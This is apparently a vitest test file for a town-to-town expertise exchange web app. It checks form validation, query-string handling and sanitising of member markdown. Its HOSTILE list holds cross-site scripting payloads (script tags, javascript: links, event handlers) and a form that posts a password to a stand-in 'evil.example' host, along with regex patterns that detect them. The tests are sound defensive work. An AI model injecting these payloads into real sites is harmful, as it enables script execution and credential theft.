import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { postForm, signIn } from '../helpers/http.ts';
import { readRows } from '../helpers/server-database.ts';
import { DEMO_PASSWORD, useServer } from '../helpers/server.ts';
import { expectCleanClientError, request } from './support.ts';

/**
 * Bad input to the expertise exchange: each gets a clear 4xx message, stores nothing,
 * and gives the member back what they typed. Hostile markdown is stored as written
 * and rendered harmless.
 */
const server = useServer();
const NEW = '/en/exchange/new/?_action=exchange.saveRequest';
const PREVIEW = '/en/exchange/new/?_action=exchange.preview';

let author: string;
let responder: string;
let editor: string;
beforeAll(async () => {
  const signInAs = (email: string) => signIn(server.url, email, DEMO_PASSWORD);
  [author, responder, editor] = await Promise.all([signInAs('temirtau-admin@example.org'), signInAs('ridder@example.org'), signInAs('editor@example.org')]);
});

const VALID = {
  title: 'Energy audits of school buildings',
  body: 'Our twelve schools lose heat through old windows. How did other towns organise energy audits?',
  helpForms: ['advice'],
  topics: ['utilities-housing'],
  languages: ['ru'],
  urgency: 'normal',
  intent: 'publish',
};

const HOSTILE = [
  '<script>alert("x")</script>',
  '[click me](javascript:alert(1))',
  '<img src=x onerror=alert(2)>',
  '<p style="position:fixed;inset:0">overlay</p>',
  '<svg onload=alert(3)></svg>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<a href="https://ok.example" onclick="alert(4)">fine link</a>',
].join('\n\n');

const countRequests = async () => (await readRows(server.databaseUrl, sql<{ n: number }>`SELECT count(*) AS n FROM help_requests`))[0]!.n;
const countResponses = async () => (await readRows(server.databaseUrl, sql<{ n: number }>`SELECT count(*) AS n FROM help_responses`))[0]!.n;
const unescape = (html: string) => html.replaceAll('&#34;', '"').replaceAll('&quot;', '"').replaceAll('&#39;', "'").replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&');

/** The part of a page between its <main> tags, where member text is rendered. */
const main = (html: string) => html.slice(html.indexOf('<main'), html.indexOf('</main>'));

function expectHarmless(html: string): void {
  const body = main(html);
  expect(body).not.toMatch(/<script/i);
  expect(body).not.toMatch(/href="javascript:/i);
  expect(body).not.toMatch(/\son(error|load|click)=/i);
  expect(body).not.toMatch(/<svg|<img|<iframe/i);
  expect(body).not.toMatch(/action="https:\/\/evil/i);
  expect(body).not.toMatch(/<p style=/i);
}

describe('hostile markdown', () => {
  it('is stored exactly as written and rendered harmless on the request page and in responses', async () => {
    const posted = await postForm(server.url, NEW, { ...VALID, body: HOSTILE }, { cookie: author });
    expect(posted.status).toBe(303);
    const id = Number(posted.headers.get('location')!.match(/\/exchange\/(\d+)\//)![1]);
    expect((await readRows(server.databaseUrl, sql<{ body: string }>`SELECT body FROM help_requests WHERE id = ${id}`))[0]!.body).toBe(HOSTILE);

    const answered = await postForm(server.url, `/en/exchange/${id}/?_action=exchange.respond`, { request: String(id), body: HOSTILE }, { cookie: responder });
    expect(answered.status).toBe(303);

    const page = await (await request(server.url, `/en/exchange/${id}/`, { cookie: editor })).text();
    expectHarmless(page);
    expect(page).toContain('fine link');
    expect(page).toContain('rel="nofollow ugc noopener"');
  });

  it('is harmless in the preview, which stores nothing and keeps the text', async () => {
    const before = await countRequests();
    const response = await postForm(server.url, PREVIEW, { ...VALID, body: `**Bold words**\n\n${HOSTILE}` }, { cookie: author });
    expect(response.status).toBe(200);
    const html = await response.text();
    expect(main(html)).toContain('<strong>Bold words</strong>');
    expectHarmless(html.replace(/<textarea[\s\S]*?<\/textarea>/g, ''));
    // What was typed comes back in the field (escaped), with the other choices.
    expect(unescape(html)).toContain('<script>alert("x")</script>');
    expect(html).toMatch(/value="utilities-housing" checked/);
    expect(await countRequests()).toBe(before);
  });
});

describe('a rejected request form', () => {
  it.each([
    ['an empty body', { body: '' }, 'Fill in this field'],
    ['a huge body', { body: 'x'.repeat(20_001) }, 'This is too long'],
    ['a short title', { title: 'Help' }, 'This is too short'],
    ['a title on two lines', { title: 'Energy audits\r\nof schools' }, 'Write this on one line'],
    ['an unknown topic', { topics: ['space-travel'] }, 'Choose topics from the list'],
    ['no topic', { topics: [] }, 'Choose at least one topic'],
    ['four topics', { topics: ['utilities-housing', 'municipal-finance', 'youth-skills', 'sme-support'] }, 'Choose at most three topics'],
    ['no form of help', { helpForms: [] }, 'Choose at least one form of help'],
    ['an unknown language', { languages: ['de'] }, 'Choose languages from the list'],
    ['an unknown urgency', { urgency: 'yesterday' }, 'Choose how urgent it is'],
    ['a past deadline', { deadline: '2020-01-31' }, 'The deadline cannot be in the past'],
    ['an impossible date', { deadline: '2027-02-30' }, 'Enter a real date'],
    ['a date in words', { deadline: 'next spring' }, 'Enter a real date'],
    ['a deadline too far', { deadline: '2099-01-01' }, 'within two years'],
  ] as const)('with %s: 400, a clear message, nothing stored, the text kept', async (_case, change, message) => {
    const before = await countRequests();
    const fields = { ...VALID, ...change } as Record<string, string | readonly string[]>;
    const response = await postForm(server.url, NEW, fields, { cookie: author });
    const html = await response.text();
    expect(response.status).toBe(400);
    expectCleanClientError(response.status, html);
    expect(html).toContain(message);
    expect(await countRequests()).toBe(before);
    if (!('body' in change)) expect(html).toContain('Our twelve schools lose heat');
  });

  it('from an account with no town: 403 and an explanation', async () => {
    const before = await countRequests();
    const response = await postForm(server.url, NEW, VALID, { cookie: editor });
    expect(response.status).toBe(403);
    expect(await response.text()).toContain('Requests are made on behalf of a town');
    expect(await countRequests()).toBe(before);
  });

  it('that is not a form at all: 415', async () => {
    const response = await fetch(new URL(NEW, server.url), {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Cookie: author, Origin: server.url },
      body: JSON.stringify(VALID),
    });
    expect(response.status).toBe(415);
  });
});

describe('a rejected response', () => {
  it.each([
    ['an empty answer', { body: '' }, 'Fill in this field'],
    ['a script link', { links: 'javascript:alert(1)' }, 'Each link must be a full web address'],
    ['six links', { links: Array.from({ length: 6 }, (_, index) => `https://example.org/${index}`).join('\n') }, 'Add at most 5 links'],
  ] as const)('with %s: 400, nothing stored, the text kept', async (_case, change, message) => {
    const id = (await readRows(server.databaseUrl, sql<{ id: number }>`SELECT id FROM help_requests WHERE status = 'open' ORDER BY id LIMIT 1`))[0]!.id;
    const before = await countResponses();
    const fields: Record<string, string> = { request: String(id), body: 'In Ridder we replaced the windows of six schools in 2022.', ...change };
    const response = await postForm(server.url, `/en/exchange/${id}/?_action=exchange.respond`, fields, { cookie: responder });
    const html = await response.text();
    expect(response.status).toBe(400);
    expect(html).toContain(message);
    if (!('body' in change)) expect(html).toContain('In Ridder we replaced the windows');
    expect(await countResponses()).toBe(before);
  });
});

describe('the list with a malformed query string', () => {
  it.each([
    '/en/exchange/?status=bogus',
    '/en/exchange/?page=-1',
    '/en/exchange/?page=99999999',
    '/en/exchange/?topic=%3Cscript%3E',
    '/en/exchange/?town=atlantis',
    '/en/exchange/?q=' + 'x'.repeat(300),
    '/en/exchange/?scope=everything&language=fr',
  ])('%s answers 400 with a message, never a 500', async (path) => {
    const response = await request(server.url, path, { cookie: responder });
    const html = await response.text();
    expectCleanClientError(response.status, html);
    expect(response.status).toBe(400);
    expect(html).toContain('Some filters were not understood');
    expect(html).not.toContain('<script>');
  });

  it('reads a known town from the query (the towns read before the list) and lists only its requests', async () => {
    const response = await request(server.url, '/en/exchange/?town=temirtau', { cookie: responder });
    const html = await response.text();
    expect(response.status).toBe(200);
    expect(html).toMatch(/<option value="temirtau" selected/);
    const metas = [...html.matchAll(/<p class="request-summary__meta">(.*?)<\/p>/g)].map((match) => match[1]!);
    expect(metas.length).toBeGreaterThan(0);
    for (const meta of metas) expect(meta).toContain('Temirtau');
  });

  it('treats search operators as plain words', async () => {
    for (const q of ['"', 'NEAR(', 'a OR', '*', 'title:x', '-x', '^x']) {
      const response = await request(server.url, `/en/exchange/?q=${encodeURIComponent(q)}`, { cookie: responder });
      expect(response.status, q).toBe(200);
    }
  });
});
